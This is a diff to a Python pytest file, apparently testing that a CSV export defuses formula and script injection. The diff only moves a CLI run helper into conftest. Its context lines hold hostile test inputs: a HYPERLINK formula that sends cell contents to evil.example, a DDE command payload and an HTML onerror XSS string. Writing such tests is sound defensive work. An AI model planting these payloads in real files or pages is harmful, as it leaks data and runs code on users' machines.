@@ -11,18 +11,11 @@ import csv
 import os
 
 import pytest
-from click.testing import CliRunner
-from conftest import CATALOGS
+from conftest import CATALOGS, run
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE_UNITS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+cmd|" /C calc"!A0',
                  '<img src=x onerror="window.__pwned=1">']
-
-
-def run(*args):
-    import cli
-
-    return CliRunner().invoke(cli.main, [str(a) for a in args])
 
 
 @pytest.fixture
